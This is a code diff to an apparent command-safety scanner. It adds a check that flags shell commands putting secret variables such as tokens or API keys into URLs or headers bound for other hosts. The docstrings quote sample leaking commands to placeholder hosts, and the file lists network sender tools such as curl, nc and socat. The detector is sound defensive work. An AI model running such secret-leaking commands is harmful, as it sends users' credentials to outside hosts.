@@ -301,6 +301,31 @@ def secret_variables(subject: Subject) -> str | None:
     return None
 
 
+def secret_in_url(subject: Subject) -> str | None:
+    """A secret variable put into a command that names a URL, whatever the program
+    (`git clone "https://x.example/r?t=$GITHUB_TOKEN"`, `open "https://x/?k=$OPENAI_API_KEY"`,
+    `git -c http.extraHeader="X: $TOKEN" fetch https://x`): it goes where the URL goes,
+    which is a leak unless that is the variable's own service."""
+    seg = subject.segment
+    if seg is None or seg.program in _PRINTERS or seg.program in _SENDERS:
+        return None  # secret_variables judges those
+    texts = [a.text for a in seg.args[1:]]
+    urls = [t for t in texts if "://" in t] + list(subject.urls)
+    if not urls:
+        return None
+    for arg in seg.args[1:]:
+        if not arg.dynamic or "${" not in arg.text:
+            continue
+        for name in _VARIABLE_REF.findall(arg.text):
+            if not SECRET_VARIABLE.search(name):
+                continue
+            hosts = [h for h in (url_host(u) for u in urls) if h]
+            if hosts and all(is_home_of(name, h) for h in hosts):
+                continue
+            return f"{seg.program} puts ${name} into a request to {', '.join(hosts) or 'another host'}"
+    return None
+
+
 _REDIRECTING = ("--resolve", "--connect-to", "-x", "--proxy", "--preproxy", "--socks", "-k", "--insecure",
                 "--unix-socket", "--abstract-unix-socket")
 _SENDERS = frozenset({"curl", "wget", "http", "https", "httpie", "xh", "curlie", "nc", "ncat", "socat", "ssh"})
@@ -638,6 +663,11 @@ def register(check: Callable) -> None:
                                      "perf-trace", "py-spy"))
     def _memory(subject: Subject) -> str | None:
         return process_memory(subject)
+
+    @check("secret-in-url", 45, "a secret variable put into a command that sends it to a URL's host "
+           "(git clone \"https://x/?t=$TOKEN\", open \"https://x/?k=$KEY\")", needs=("dynamic",))
+    def _secret_url(subject: Subject) -> str | None:
+        return secret_in_url(subject)
 
     @check("search-homes", 30, "a content search through a whole home or every home", needs=("call",))
     def _homes(subject: Subject) -> str | None:
